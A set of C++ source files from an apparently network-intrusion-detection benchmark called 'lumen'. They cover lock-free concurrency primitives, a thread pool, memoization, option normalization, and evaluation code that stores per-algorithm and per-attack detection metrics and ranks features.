      tail = tail_cache_ = tail_.load(std::memory_order_acquire);
      if (tail == head) return 0;
    }
    const size_t n = std::min(max, static_cast<size_t>(tail - head));
    for (size_t i = 0; i < n; ++i) {
      out.push_back(std::move(slots_[static_cast<size_t>(head + i) & mask_]));
    }
    head_.store(head + n, std::memory_order_release);
    return n;
  }

  /// Block until an item is visible or the ring is closed AND drained.
  /// Returns true when data is ready, false at end-of-stream. The closed
  /// flag is re-checked against a fresh tail so a close racing the final
  /// push never strands items: the producer stores tail before closed, so
  /// observing closed (acquire) makes the final tail visible.
  bool wait_nonempty() {
    detail::Backoff backoff;
    for (;;) {
      const uint64_t head = head_.load(std::memory_order_relaxed);
      if (tail_.load(std::memory_order_acquire) != head) return true;
      if (closed_.load(std::memory_order_acquire)) {
        return tail_.load(std::memory_order_acquire) != head;
      }
      backoff.wait();
    }
  }

  /// Approximate occupancy (racy by nature; exact once both sides stop).
  size_t size() const {
    return static_cast<size_t>(tail_.load(std::memory_order_acquire) -
                               head_.load(std::memory_order_acquire));
  }

 private:
  // Consumer-owned index, producer-read: own cache line.
  alignas(64) std::atomic<uint64_t> head_{0};
  // Producer-owned index, consumer-read: own cache line.
  alignas(64) std::atomic<uint64_t> tail_{0};
  // Producer-local view of head_ (also producer-only high-water mark).
  alignas(64) uint64_t head_cache_ = 0;
  std::atomic<uint64_t> high_water_{0};
  // Consumer-local view of tail_.
  alignas(64) uint64_t tail_cache_ = 0;
  alignas(64) std::atomic<bool> closed_{false};

  std::vector<T> slots_;
  size_t mask_ = 0;
};

}  // namespace lumen
