// Lock-free hot-swap slot for live model deployment: readers (shard
// consumers on the packet path) pin the current value with two atomic
// loads and one store — wait-free, no retry loop — while a writer
// publishes a replacement without draining traffic.
//
// This is the epoch variant of the classic seqlock swap. A seqlock
// copy-out would force readers to retry while a writer is mid-publish and
// to memcpy the protected value; here the protected value is a pointer,
// so readers only need a guarantee that the pointee outlives their use of
// it. Each reader owns a padded epoch cell:
//
//   publish (writer, serialized by mu_):
//     node = retain(value, v+1)
//     current_.store(node->value, release)     // (1)
//     version_.store(v+1, release)             // (2)
//
//   pin (reader r):
//     v = version_.load(acquire)               // (3)
//     p = current_.load(acquire)               // (4)
//     readers_[r].seen.store(v, release)       // (5)
//     return p
//
// Invariant: the pointer returned at (4) has version >= the epoch
// announced at (5). If (3) observed version v, the acquire pairs with the
// release at (2), making the store at (1) visible — so (4) returns the
// version-v pointer or a newer one, never older. The writer reclaims a
// retired node only when every reader's announced epoch is above the
// node's version (readers that never pinned announce 0, which blocks
// reclamation entirely — conservative, never unsafe; the ingest runtime
// sizes the slot to its consumer count and every consumer pins per
// batch, so epochs advance as long as traffic flows).
//
// Lifetime: destroying the slot frees every node; callers must stop all
// readers first (the ingest runtime joins its consumers before the slot
// goes away).
#pragma once

#include <atomic>
#include <cstddef>
#include <cstdint>
#include <memory>
#include <mutex>
#include <utility>
#include <vector>

namespace lumen {

template <typename T>
class ModelSlot {
 public:
  /// max_readers fixes the reader-epoch table size; reader ids at pin()
  /// time are taken modulo this count.
  ModelSlot(std::unique_ptr<T> initial, size_t max_readers)
      : readers_(max_readers == 0 ? 1 : max_readers) {
    nodes_.push_back(Node{std::move(initial), 1});
    current_.store(nodes_.back().value.get(), std::memory_order_release);
    version_.store(1, std::memory_order_release);
  }

  ModelSlot(const ModelSlot&) = delete;
  ModelSlot& operator=(const ModelSlot&) = delete;

  struct Pinned {
    const T* value;
    /// Observed epoch: changes whenever a newer publish became visible.
    /// Compare versions (not pointers) to detect a swap — a reclaimed
    /// node's allocation can be reused, so pointer equality is ABA-unsafe.
    uint64_t version;
  };

  /// Wait-free snapshot for reader `reader`: returns the current value and
  /// announces this reader's epoch. The pointer stays valid until the same
  /// reader's next pin() (or until all readers stop and the slot dies).
  Pinned pin(size_t reader) {
    const uint64_t v = version_.load(std::memory_order_acquire);
    const T* p = current_.load(std::memory_order_acquire);
    readers_[reader % readers_.size()].seen.store(v,
                                                  std::memory_order_release);
    return {p, v};
  }

  /// Swap in a replacement value. Readers switch at their next pin();
  /// superseded values are reclaimed once no announced epoch can still
  /// reach them. Writers are serialized; the packet path never blocks.
  void publish(std::unique_ptr<T> next) {
    std::lock_guard<std::mutex> lock(mu_);
    const uint64_t v = version_.load(std::memory_order_relaxed) + 1;
    nodes_.push_back(Node{std::move(next), v});
    current_.store(nodes_.back().value.get(), std::memory_order_release);
    version_.store(v, std::memory_order_release);
    reclaim_locked();
  }

  uint64_t version() const { return version_.load(std::memory_order_acquire); }

  /// Retired-but-unreclaimed node count plus the live one (telemetry/test
  /// hook for the reclamation path).
  size_t live_nodes() const {
    std::lock_guard<std::mutex> lock(mu_);
    return nodes_.size();
  }

  /// Opportunistic reclamation without publishing (e.g. between runs).
  void reclaim() {
    std::lock_guard<std::mutex> lock(mu_);
    reclaim_locked();
  }

 private:
  struct Node {
    std::unique_ptr<T> value;
    uint64_t version;
  };
  struct alignas(64) ReaderEpoch {
    std::atomic<uint64_t> seen{0};
  };

  void reclaim_locked() {
    uint64_t min_seen = UINT64_MAX;
    for (const ReaderEpoch& r : readers_) {
      min_seen = std::min(min_seen, r.seen.load(std::memory_order_acquire));
    }
    // A stale epoch read only keeps nodes alive longer — never frees early.
    // The current node always survives: its version equals version_, and
    // no announced epoch exceeds version_.
    size_t keep = 0;
    for (size_t i = 0; i < nodes_.size(); ++i) {
      const bool last = i + 1 == nodes_.size();
      if (last || nodes_[i].version >= min_seen) {
        if (keep != i) nodes_[keep] = std::move(nodes_[i]);
        ++keep;
      }
    }
    nodes_.resize(keep);
  }

  std::vector<ReaderEpoch> readers_;
  alignas(64) std::atomic<uint64_t> version_{0};
  std::atomic<const T*> current_{nullptr};
  mutable std::mutex mu_;
  std::vector<Node> nodes_;  // guarded by mu_; oldest first
};

}  // namespace lumen
