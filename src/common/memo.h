// Concurrency-safe per-key memoization: the first caller of a key computes,
// every concurrent caller of the same key blocks on that one computation
// instead of duplicating or racing it. Values are stored behind shared_ptr
// slots so returned pointers stay valid for the cache's lifetime no matter
// how the underlying map rebalances.
#pragma once

#include <condition_variable>
#include <functional>
#include <map>
#include <memory>
#include <mutex>
#include <optional>
#include <utility>

#include "common/result.h"

namespace lumen {

template <typename K, typename V>
class MemoCache {
 public:
  /// Return the cached value for `key`, computing it with `compute` when
  /// absent. Exceptions thrown by `compute` are converted into an Error so
  /// waiting threads always wake up with a completed slot.
  Result<const V*> get_or_compute(const K& key,
                                  const std::function<Result<V>()>& compute) {
    std::shared_ptr<Slot> slot;
    bool owner = false;
    {
      std::lock_guard<std::mutex> lock(mu_);
      auto it = slots_.find(key);
      if (it == slots_.end()) {
        it = slots_.emplace(key, std::make_shared<Slot>()).first;
        owner = true;
      }
      slot = it->second;
    }
    if (owner) {
      std::optional<Result<V>> outcome;
      try {
        outcome.emplace(compute());
      } catch (const std::exception& e) {
        outcome.emplace(Error::make("memo", e.what()));
      } catch (...) {
        outcome.emplace(Error::make("memo", "unknown exception"));
      }
      {
        std::lock_guard<std::mutex> lock(slot->mu);
        slot->outcome = std::move(outcome);
      }
      slot->cv.notify_all();
    } else {
      std::unique_lock<std::mutex> lock(slot->mu);
      slot->cv.wait(lock, [&] { return slot->outcome.has_value(); });
    }
    const Result<V>& r = *slot->outcome;
    if (!r.ok()) return r.error();
    return &r.value();
  }

 private:
  struct Slot {
    std::mutex mu;
    std::condition_variable cv;
    std::optional<Result<V>> outcome;
  };

  std::mutex mu_;
  std::map<K, std::shared_ptr<Slot>> slots_;
};

}  // namespace lumen
