// One-pass Options normalization with a single named diagnostic.
//
// Every subsystem that takes an Options struct (engine, ingest runtime,
// gateway front-end) normalizes it the same way: clamp each field into its
// valid range, remember which fields moved, and surface ONE human-readable
// line naming every adjustment — callers log it once instead of guessing
// which of their settings were silently rewritten. This header extracts
// that pattern so the subsystems share the rendering and the "only report
// what actually changed" discipline.
#pragma once

#include <algorithm>
#include <cstddef>
#include <string>

namespace lumen {

/// Accumulates "field was -> now" adjustments while a normalized() walks an
/// Options struct, then renders them as one diagnostic line. Stateless
/// between uses: construct one per normalization pass.
class OptionNormalizer {
 public:
  /// `component` prefixes the diagnostic ("ingest", "engine", "frontend").
  explicit OptionNormalizer(std::string component)
      : component_(std::move(component)) {}

  /// Clamp `v` into [lo, hi]; records "<name> <was> -> <now>" if it moved.
  template <typename T>
  void clamp(T& v, T lo, T hi, const char* name) {
    const T was = v;
    v = std::clamp(v, lo, hi);
    if (v != was) note(name, to_text(was), to_text(v));
  }

  /// Force `v` to `now` for a reason the range vocabulary can't express
  /// (e.g. a policy rewritten because the backing structure can't honor
  /// it). `was`/`now` are caller-rendered names. No-op if already equal.
  template <typename T>
  void replace(T& v, T now, const char* name, const std::string& was_text,
               const std::string& now_text) {
    if (v == now) return;
    v = now;
    note(name, was_text, now_text);
  }

  /// Reset an empty string field to its default (names rendered quoted).
  void default_if_empty(std::string& v, const char* name,
                        const std::string& dflt) {
    if (!v.empty()) return;
    v = dflt;
    note(name, "\"\"", "\"" + dflt + "\"");
  }

  bool adjusted() const { return !adjustments_.empty(); }

  /// "" when nothing moved, else
  /// "<component>: Options clamped: a 4 -> 8, b 0 -> 1".
  std::string diagnostic() const {
    if (adjustments_.empty()) return "";
    return component_ + ": Options clamped: " + adjustments_;
  }

  /// Writes diagnostic() through `out` if non-null (the normalized()
  /// calling convention: a nullable out-param for the message).
  void emit(std::string* out) const {
    if (out != nullptr) *out = diagnostic();
  }

 private:
  void note(const char* name, const std::string& was, const std::string& now) {
    if (!adjustments_.empty()) adjustments_ += ", ";
    adjustments_ += std::string(name) + " " + was + " -> " + now;
  }

  static std::string to_text(size_t v) { return std::to_string(v); }
  static std::string to_text(int v) { return std::to_string(v); }
  static std::string to_text(double v) {
    // Trim std::to_string's fixed six decimals down to something readable.
    std::string s = std::to_string(v);
    while (s.size() > 1 && s.back() == '0') s.pop_back();
    if (!s.empty() && s.back() == '.') s.pop_back();
    return s;
  }

  std::string component_;
  std::string adjustments_;
};

}  // namespace lumen
