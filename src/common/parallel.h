// A small thread pool with a parallel_for helper and per-call task groups.
//
// Lumen's Python implementation leans on Ray/Modin for distributed map-reduce
// style operators. Our substitution is shared-memory parallelism: operators
// whose work decomposes per-packet, per-row, or per-(algorithm, dataset) pair
// run their map phase through parallel_for. On a single-core host this
// degrades gracefully to a serial loop (we never spawn more threads than
// hardware_concurrency unless LUMEN_THREADS says otherwise).
//
// Composition rules:
//  * Each parallel_for tracks completion through its own TaskGroup, so
//    concurrent parallel_for calls from different threads never wait on each
//    other's work.
//  * A parallel_for issued from inside a pool worker runs on the caller
//    (serial). This keeps nesting deadlock-free: outer parallelism wins, and
//    the inner loop produces exactly the same result it would in a thread of
//    its own because every parallel loop is deterministic per index.
//  * The first exception thrown by a task is captured and rethrown on the
//    waiting caller after all tasks of the group have drained, so references
//    captured by the chunk lambdas (`body` in particular) never dangle.
#pragma once

#include <algorithm>
#include <chrono>
#include <condition_variable>
#include <cstddef>
#include <cstdlib>
#include <exception>
#include <functional>
#include <mutex>
#include <queue>
#include <thread>
#include <utility>
#include <vector>

#include "common/telemetry.h"

namespace lumen {

/// Completion tracking for one batch of tasks. Waiters block until every
/// task of the group has finished; the first captured exception is rethrown
/// from wait() once the group has fully drained.
class TaskGroup {
 public:
  void add_pending(size_t n) {
    std::lock_guard<std::mutex> lock(mu_);
    pending_ += n;
  }

  void finish_one(std::exception_ptr err) {
    std::lock_guard<std::mutex> lock(mu_);
    if (err && !error_) error_ = std::move(err);
    if (--pending_ == 0) cv_.notify_all();
  }

  /// Block until every task added to the group has completed, then rethrow
  /// the first captured exception (if any).
  void wait() {
    std::unique_lock<std::mutex> lock(mu_);
    cv_.wait(lock, [this] { return pending_ == 0; });
    if (error_) {
      std::exception_ptr err = std::exchange(error_, nullptr);
      lock.unlock();
      std::rethrow_exception(err);
    }
  }

 private:
  std::mutex mu_;
  std::condition_variable cv_;
  size_t pending_ = 0;
  std::exception_ptr error_;
};

class ThreadPool {
 public:
  explicit ThreadPool(size_t n_threads = 0)
      // Instruments resolve against the process registry before any worker
      // spawns, which also guarantees the registry outlives the pool.
      : tasks_submitted_(telemetry::Registry::process().counter("pool.tasks")),
        tasks_inline_(
            telemetry::Registry::process().counter("pool.tasks_inline")),
        queue_depth_(telemetry::Registry::process().gauge("pool.queue_depth")),
        queue_wait_ns_(
            telemetry::Registry::process().histogram("pool.queue_wait_ns")) {
    if (n_threads == 0) n_threads = default_thread_count();
    telemetry::Registry::process().gauge("pool.workers").set(
        static_cast<double>(n_threads));
    workers_.reserve(n_threads);
    for (size_t i = 0; i < n_threads; ++i) {
      workers_.emplace_back([this] { worker_loop(); });
    }
  }

  ThreadPool(const ThreadPool&) = delete;
  ThreadPool& operator=(const ThreadPool&) = delete;

  ~ThreadPool() {
    {
      std::lock_guard<std::mutex> lock(mu_);
      stop_ = true;
    }
    cv_.notify_all();
    for (auto& w : workers_) w.join();
  }

  size_t size() const { return workers_.size(); }

  /// Enqueue a task. With a group, completion and exceptions are reported
  /// there; without one, the first exception is rethrown by wait_idle().
  void submit(std::function<void()> task, TaskGroup* group = nullptr) {
    if (group != nullptr) group->add_pending(1);
    tasks_submitted_.add(1);
    {
      std::lock_guard<std::mutex> lock(mu_);
      tasks_.push(Task{std::move(task), group,
                       std::chrono::steady_clock::now()});
      ++pending_;
      queue_depth_.set(static_cast<double>(tasks_.size()));
    }
    cv_.notify_one();
  }

  /// Block until every submitted task has finished; rethrows the first
  /// exception captured from a group-less task.
  void wait_idle() {
    std::unique_lock<std::mutex> lock(mu_);
    idle_cv_.wait(lock, [this] { return pending_ == 0; });
    if (error_) {
      std::exception_ptr err = std::exchange(error_, nullptr);
      lock.unlock();
      std::rethrow_exception(err);
    }
  }

  /// True when the calling thread is one of this process's pool workers.
  static bool on_worker_thread() { return tl_on_worker(); }

  /// Count a parallel_for that ran inline (small range, serial guard, or
  /// nested call) — the pool's analog of a "steal": work the workers never
  /// saw. Exposed as the `pool.tasks_inline` counter.
  void note_inline_loop() { tasks_inline_.add(1); }

  /// Process-wide pool, created on first use. LUMEN_THREADS overrides the
  /// worker count, clamped to hardware_concurrency(); set
  /// LUMEN_THREADS_FORCE=1 to oversubscribe deliberately (sanitizer runs
  /// and concurrency tests on single-core hosts).
  static ThreadPool& global() {
    static ThreadPool pool;
    return pool;
  }

  static size_t hardware_threads() {
    const size_t hw = std::thread::hardware_concurrency();
    return hw == 0 ? 1 : hw;
  }

 private:
  static size_t default_thread_count() {
    const size_t hw = hardware_threads();
    if (const char* env = std::getenv("LUMEN_THREADS")) {
      const long n = std::strtol(env, nullptr, 10);
      if (n > 0) {
        const size_t want = static_cast<size_t>(n);
        if (const char* force = std::getenv("LUMEN_THREADS_FORCE")) {
          if (force[0] != '\0' && force[0] != '0') return want;
        }
        // A worker count above the core count only adds contention on the
        // hot path; honor the request up to what the hardware can run.
        return std::min(want, hw);
      }
    }
    return hw;
  }

  static bool& tl_on_worker() {
    thread_local bool on_worker = false;
    return on_worker;
  }

  void worker_loop() {
    tl_on_worker() = true;
    for (;;) {
      Task task;
      {
        std::unique_lock<std::mutex> lock(mu_);
        cv_.wait(lock, [this] { return stop_ || !tasks_.empty(); });
        if (stop_ && tasks_.empty()) return;
        task = std::move(tasks_.front());
        tasks_.pop();
        queue_depth_.set(static_cast<double>(tasks_.size()));
      }
      queue_wait_ns_.record(
          std::chrono::duration<double, std::nano>(
              std::chrono::steady_clock::now() - task.enqueued)
              .count());
      std::exception_ptr err;
      try {
        task.fn();
      } catch (...) {
        err = std::current_exception();
      }
      if (task.group != nullptr) task.group->finish_one(std::move(err));
      {
        std::lock_guard<std::mutex> lock(mu_);
        if (err && task.group == nullptr && !error_) error_ = std::move(err);
        if (--pending_ == 0) idle_cv_.notify_all();
      }
    }
  }

  struct Task {
    std::function<void()> fn;
    TaskGroup* group = nullptr;
    std::chrono::steady_clock::time_point enqueued;
  };

  telemetry::Counter& tasks_submitted_;
  telemetry::Counter& tasks_inline_;
  telemetry::Gauge& queue_depth_;
  telemetry::Histogram& queue_wait_ns_;
  std::vector<std::thread> workers_;
  std::queue<Task> tasks_;
  std::mutex mu_;
  std::condition_variable cv_;
  std::condition_variable idle_cv_;
  std::exception_ptr error_;
  size_t pending_ = 0;
  bool stop_ = false;
};

namespace detail {
inline int& tl_serial_depth() {
  thread_local int depth = 0;
  return depth;
}
}  // namespace detail

/// RAII switch forcing parallel_for to run inline on this thread. Used by
/// benchmarks to measure a true serial baseline and by determinism tests to
/// compare serial vs parallel outputs within one process.
class SerialGuard {
 public:
  SerialGuard() { ++detail::tl_serial_depth(); }
  ~SerialGuard() { --detail::tl_serial_depth(); }
  SerialGuard(const SerialGuard&) = delete;
  SerialGuard& operator=(const SerialGuard&) = delete;
};

inline bool serial_forced() { return detail::tl_serial_depth() > 0; }

/// Run body(i) for i in [begin, end), chunked across the global pool.
/// Runs inline when the range is small, the pool has a single worker, a
/// SerialGuard is active, or the caller is itself a pool worker (nested
/// parallel_for). Deterministic as long as body(i) only depends on i; the
/// first exception thrown by body is rethrown here after all chunks drain.
inline void parallel_for(size_t begin, size_t end,
                         const std::function<void(size_t)>& body,
                         size_t min_parallel = 1024) {
  const size_t n = end > begin ? end - begin : 0;
  if (n == 0) return;
  if (min_parallel == 0) min_parallel = 1;
  ThreadPool& pool = ThreadPool::global();
  if (n < min_parallel || pool.size() <= 1 || serial_forced() ||
      ThreadPool::on_worker_thread()) {
    pool.note_inline_loop();
    for (size_t i = begin; i < end; ++i) body(i);
    return;
  }
  TaskGroup group;
  const size_t chunks = std::min(n, pool.size() * 4);
  const size_t step = (n + chunks - 1) / chunks;
  for (size_t c = begin; c < end; c += step) {
    const size_t hi = std::min(end, c + step);
    // `body` is captured by reference: safe because group.wait() only
    // returns after every chunk has finished, exception or not.
    pool.submit([c, hi, &body] {
      for (size_t i = c; i < hi; ++i) body(i);
    }, &group);
  }
  group.wait();
}

}  // namespace lumen
