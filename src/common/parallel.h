// A small work-stealing-free thread pool with a parallel_for helper.
//
// Lumen's Python implementation leans on Ray/Modin for distributed map-reduce
// style operators. Our substitution is shared-memory parallelism: operators
// whose work decomposes per-packet or per-group run their map phase through
// parallel_for. On a single-core host this degrades gracefully to a serial
// loop (we never spawn more threads than hardware_concurrency).
#pragma once

#include <condition_variable>
#include <cstddef>
#include <functional>
#include <mutex>
#include <queue>
#include <thread>
#include <vector>

namespace lumen {

class ThreadPool {
 public:
  explicit ThreadPool(size_t n_threads = 0) {
    if (n_threads == 0) {
      n_threads = std::thread::hardware_concurrency();
      if (n_threads == 0) n_threads = 1;
    }
    workers_.reserve(n_threads);
    for (size_t i = 0; i < n_threads; ++i) {
      workers_.emplace_back([this] { worker_loop(); });
    }
  }

  ThreadPool(const ThreadPool&) = delete;
  ThreadPool& operator=(const ThreadPool&) = delete;

  ~ThreadPool() {
    {
      std::lock_guard<std::mutex> lock(mu_);
      stop_ = true;
    }
    cv_.notify_all();
    for (auto& w : workers_) w.join();
  }

  size_t size() const { return workers_.size(); }

  void submit(std::function<void()> task) {
    {
      std::lock_guard<std::mutex> lock(mu_);
      tasks_.push(std::move(task));
      ++pending_;
    }
    cv_.notify_one();
  }

  /// Block until every submitted task has finished.
  void wait_idle() {
    std::unique_lock<std::mutex> lock(mu_);
    idle_cv_.wait(lock, [this] { return pending_ == 0; });
  }

  /// Process-wide pool, created on first use.
  static ThreadPool& global() {
    static ThreadPool pool;
    return pool;
  }

 private:
  void worker_loop() {
    for (;;) {
      std::function<void()> task;
      {
        std::unique_lock<std::mutex> lock(mu_);
        cv_.wait(lock, [this] { return stop_ || !tasks_.empty(); });
        if (stop_ && tasks_.empty()) return;
        task = std::move(tasks_.front());
        tasks_.pop();
      }
      task();
      {
        std::lock_guard<std::mutex> lock(mu_);
        if (--pending_ == 0) idle_cv_.notify_all();
      }
    }
  }

  std::vector<std::thread> workers_;
  std::queue<std::function<void()>> tasks_;
  std::mutex mu_;
  std::condition_variable cv_;
  std::condition_variable idle_cv_;
  size_t pending_ = 0;
  bool stop_ = false;
};

/// Run body(i) for i in [begin, end), chunked across the global pool.
/// Falls back to a serial loop when the range is small or the pool has a
/// single worker (no point paying synchronization costs).
inline void parallel_for(size_t begin, size_t end,
                         const std::function<void(size_t)>& body,
                         size_t min_parallel = 1024) {
  const size_t n = end > begin ? end - begin : 0;
  ThreadPool& pool = ThreadPool::global();
  if (n < min_parallel || pool.size() <= 1) {
    for (size_t i = begin; i < end; ++i) body(i);
    return;
  }
  const size_t chunks = pool.size() * 4;
  const size_t step = (n + chunks - 1) / chunks;
  for (size_t c = begin; c < end; c += step) {
    const size_t hi = std::min(end, c + step);
    pool.submit([c, hi, &body] {
      for (size_t i = c; i < hi; ++i) body(i);
    });
  }
  pool.wait_idle();
}

}  // namespace lumen
