#include "eval/results.h"

#include <cstdio>
#include <memory>

namespace lumen::eval {

void ResultStore::add_record(const EvalRecord& rec) {
  const std::pair<const char*, double> metrics[] = {
      {"precision", rec.precision}, {"recall", rec.recall},
      {"f1", rec.f1},               {"accuracy", rec.accuracy},
      {"auc", rec.auc},
  };
  for (const auto& [name, value] : metrics) {
    add(ResultRow{rec.algo, rec.train_ds, rec.test_ds, name, value});
  }
}

void ResultStore::add_attack_scores(const EvalRecord& rec,
                                    const std::vector<AttackScore>& scores) {
  for (const AttackScore& s : scores) {
    const std::string attack = trace::attack_name(s.attack);
    add(ResultRow{rec.algo, rec.train_ds, rec.test_ds,
                  "precision@" + attack, s.precision});
    add(ResultRow{rec.algo, rec.train_ds, rec.test_ds, "recall@" + attack,
                  s.recall});
  }
}

std::vector<ResultRow> ResultStore::query(const std::string& algo,
                                          const std::string& train_ds,
                                          const std::string& test_ds,
                                          const std::string& metric) const {
  std::vector<ResultRow> out;
  for (const ResultRow& r : rows_) {
    if (!algo.empty() && r.algo != algo) continue;
    if (!train_ds.empty() && r.train_ds != train_ds) continue;
    if (!test_ds.empty() && r.test_ds != test_ds) continue;
    if (!metric.empty() && r.metric != metric) continue;
    out.push_back(r);
  }
  return out;
}

std::optional<double> ResultStore::value(const std::string& algo,
                                         const std::string& train_ds,
                                         const std::string& test_ds,
                                         const std::string& metric) const {
  for (const ResultRow& r : rows_) {
    if (r.algo == algo && r.train_ds == train_ds && r.test_ds == test_ds &&
        r.metric == metric) {
      return r.value;
    }
  }
  return std::nullopt;
}

namespace {
struct FileCloser {
  void operator()(std::FILE* f) const {
    if (f != nullptr) std::fclose(f);
  }
};
}  // namespace

Result<void> ResultStore::save_csv(const std::string& path) const {
  std::unique_ptr<std::FILE, FileCloser> f(std::fopen(path.c_str(), "w"));
  if (!f) return Error::make("results", "cannot open " + path);
  std::fprintf(f.get(), "algo,train,test,metric,value\n");
  for (const ResultRow& r : rows_) {
    std::fprintf(f.get(), "%s,%s,%s,%s,%.6f\n", r.algo.c_str(),
                 r.train_ds.c_str(), r.test_ds.c_str(), r.metric.c_str(),
                 r.value);
  }
  return {};
}

Result<ResultStore> ResultStore::load_csv(const std::string& path) {
  std::unique_ptr<std::FILE, FileCloser> f(std::fopen(path.c_str(), "r"));
  if (!f) return Error::make("results", "cannot open " + path);
  ResultStore store;
  char line[512];
  bool header = true;
  while (std::fgets(line, sizeof(line), f.get()) != nullptr) {
    if (header) {
      header = false;
      continue;
    }
    ResultRow row;
    char algo[64], train[64], test[64], metric[128];
    double value = 0.0;
    if (std::sscanf(line, "%63[^,],%63[^,],%63[^,],%127[^,],%lf", algo, train,
                    test, metric, &value) == 5) {
      store.add(ResultRow{algo, train, test, metric, value});
    }
  }
  return store;
}

}  // namespace lumen::eval
