// The paper's literature survey (Table 1) as structured metadata, plus the
// Fig. 1a computation: for each algorithm, how many other algorithms share
// at least one evaluation dataset with it in the published record — the
// number of literature-only comparisons an operator could make.
#pragma once

#include <string>
#include <vector>

namespace lumen::eval {

struct LiteratureEntry {
  std::string algorithm;
  std::string ml_model;
  std::string granularity;
  std::vector<std::string> datasets;  // as reported in the original papers
  std::string reported_performance;
};

/// Table 1 of the paper.
const std::vector<LiteratureEntry>& literature_survey();

/// Fig. 1a: per-algorithm count of other algorithms evaluated on at least
/// one common dataset. "Custom" (private) datasets never match anything.
std::vector<std::pair<std::string, int>> possible_comparisons();

/// Aligned text rendering of Table 1.
std::string render_literature_table();

}  // namespace lumen::eval
