// Parallel (algorithm, dataset) evaluation sweeps over the benchmark grid.
//
// The paper runs its 16x15 evaluation matrix as embarrassingly parallel work
// on a Ray cluster; here each grid cell becomes one task on the shared-memory
// pool. Determinism contract: cells are enumerated in a canonical order,
// evaluated in parallel into an index-addressed buffer, and merged back into
// the ResultStore serially in enumeration order — so the resulting store (and
// any CSV saved from it) is byte-identical to a serial sweep.
#pragma once

#include <array>
#include <functional>
#include <string>
#include <utility>
#include <vector>

#include "eval/benchmark.h"
#include "eval/results.h"

namespace lumen::eval {

/// Callback observing each successful run during the (serial) merge phase,
/// in canonical grid order.
using RunCallback = std::function<void(const Benchmark::RunOutput&)>;

/// The strictly-faithful dataset ids for an algorithm.
std::vector<std::string> faithful_datasets(Benchmark& bench,
                                           const std::string& algo_id);

/// Canonical same-dataset grid: every (algo, faithful dataset) pair in
/// algorithm-major order.
std::vector<std::pair<std::string, std::string>> same_dataset_pairs(
    Benchmark& bench, const std::vector<std::string>& algos);

/// Canonical cross-dataset grid: every (algo, train, test) triple with
/// train != test among the algorithm's faithful datasets.
std::vector<std::array<std::string, 3>> cross_dataset_pairs(
    Benchmark& bench, const std::vector<std::string>& algos);

/// Run every same-dataset pair; records land in `store` in canonical order
/// and `on_run` (if set) sees each successful run for per-attack
/// post-processing. `parallel` toggles pool execution (results identical
/// either way).
void sweep_same_dataset(Benchmark& bench, const std::vector<std::string>& algos,
                        ResultStore& store, const RunCallback& on_run = {},
                        bool parallel = true);

/// Run every cross-dataset (train != test) pair among faithful datasets.
void sweep_cross_dataset(Benchmark& bench,
                         const std::vector<std::string>& algos,
                         ResultStore& store, bool parallel = true);

/// Warm the benchmark's feature/model caches for a set of same-dataset pairs
/// in parallel; later serial queries then hit the caches. Failures are
/// ignored (the serial caller will report them).
void prefetch_same_dataset(
    Benchmark& bench,
    const std::vector<std::pair<std::string, std::string>>& pairs);

}  // namespace lumen::eval
