#include "eval/relevance.h"

#include <algorithm>
#include <cmath>

#include "features/stats.h"
#include "ml/forest.h"

namespace lumen::eval {

std::vector<FeatureRelevance> forest_importance(
    const features::FeatureTable& table, size_t n_trees, uint64_t seed) {
  ml::ForestConfig cfg;
  cfg.n_trees = n_trees;
  cfg.seed = seed;
  ml::RandomForest rf(cfg);
  rf.fit(table);

  std::vector<double> counts(table.cols, 0.0);
  for (const ml::DecisionTree& tree : rf.trees()) {
    for (const auto& node : tree.nodes()) {
      if (node.feature >= 0 &&
          static_cast<size_t>(node.feature) < table.cols) {
        counts[static_cast<size_t>(node.feature)] += 1.0;
      }
    }
  }
  double total = 0.0;
  for (double c : counts) total += c;
  std::vector<FeatureRelevance> out;
  out.reserve(table.cols);
  for (size_t c = 0; c < table.cols; ++c) {
    out.push_back(FeatureRelevance{table.col_names[c],
                                   total > 0.0 ? counts[c] / total : 0.0});
  }
  std::stable_sort(out.begin(), out.end(),
                   [](const auto& a, const auto& b) { return a.score > b.score; });
  return out;
}

std::vector<FeatureRelevance> attack_separation(
    const features::FeatureTable& table, trace::AttackType attack) {
  std::vector<FeatureRelevance> out;
  out.reserve(table.cols);
  for (size_t c = 0; c < table.cols; ++c) {
    features::RunningStats benign, mal;
    for (size_t r = 0; r < table.rows; ++r) {
      if (table.labels[r] == 0) {
        benign.add(table.at(r, c));
      } else if (table.attack[r] == static_cast<uint8_t>(attack)) {
        mal.add(table.at(r, c));
      }
    }
    double d = 0.0;
    if (benign.count() > 1 && mal.count() > 1) {
      const double pooled =
          std::sqrt(0.5 * (benign.variance() + mal.variance()));
      if (pooled > 1e-12) {
        d = std::fabs(mal.mean() - benign.mean()) / pooled;
      }
    }
    out.push_back(FeatureRelevance{table.col_names[c], d});
  }
  std::stable_sort(out.begin(), out.end(),
                   [](const auto& a, const auto& b) { return a.score > b.score; });
  return out;
}

Result<std::vector<AttackRelevanceReport>> per_attack_relevance(
    Benchmark& bench, const std::string& algo_id, const std::string& ds_id,
    size_t top_k) {
  Result<const features::FeatureTable*> feats = bench.features(algo_id, ds_id);
  if (!feats.ok()) return feats.error();
  const features::FeatureTable& table = *feats.value();

  std::set<uint8_t> attacks;
  for (size_t r = 0; r < table.rows; ++r) {
    if (table.labels[r] != 0 && table.attack[r] != 0) {
      attacks.insert(table.attack[r]);
    }
  }
  std::vector<AttackRelevanceReport> out;
  for (uint8_t a : attacks) {
    AttackRelevanceReport report;
    report.attack = static_cast<trace::AttackType>(a);
    std::vector<FeatureRelevance> ranked =
        attack_separation(table, report.attack);
    if (ranked.size() > top_k) ranked.resize(top_k);
    report.top = std::move(ranked);
    out.push_back(std::move(report));
  }
  return out;
}

}  // namespace lumen::eval
