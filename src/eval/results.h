// Query-friendly result storage (§3.3): every evaluation lands here as flat
// (algo, train, test, metric, value) records; figures query it and the whole
// store can be saved/loaded as CSV for offline analysis.
#pragma once

#include <optional>
#include <string>
#include <vector>

#include "common/result.h"
#include "eval/benchmark.h"

namespace lumen::eval {

struct ResultRow {
  std::string algo;
  std::string train_ds;
  std::string test_ds;
  std::string metric;  // "precision", "recall", ..., or "precision@<attack>"
  double value = 0.0;
};

class ResultStore {
 public:
  void add(ResultRow row) { rows_.push_back(std::move(row)); }

  /// Expand an EvalRecord into one row per metric.
  void add_record(const EvalRecord& rec);

  /// Add per-attack precision/recall rows for a run.
  void add_attack_scores(const EvalRecord& rec,
                         const std::vector<AttackScore>& scores);

